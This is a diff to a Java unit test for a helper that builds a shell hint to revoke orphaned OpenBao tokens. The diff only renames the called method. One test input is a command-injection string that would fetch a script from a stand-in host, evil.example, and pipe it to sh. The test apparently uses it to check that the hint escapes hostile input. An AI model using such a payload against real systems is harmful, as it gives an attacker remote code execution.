@@ -12,7 +12,7 @@ class RevokeOrphansHintTest {
   @Test
   void aSpecAShellTakesAsWrittenIsRepeatedAsACommand() {
     assertThat(
-            AuditTokensCommand.revokeOrphansHint(
+            RevokeOrphansHint.of(
                 BACKEND,
                 new TokenAuditReport.OpenBao(
                     "https://bao.example:8200", "platform/team-a", "shared-rotator")))
@@ -26,7 +26,7 @@ class RevokeOrphansHintTest {
     String hostile = "x$(curl${IFS}evil.example|sh)";
 
     String hint =
-        AuditTokensCommand.revokeOrphansHint(
+        RevokeOrphansHint.of(
             BACKEND,
             new TokenAuditReport.OpenBao("https://bao.example:8200", hostile, "shared-rotator"));
 
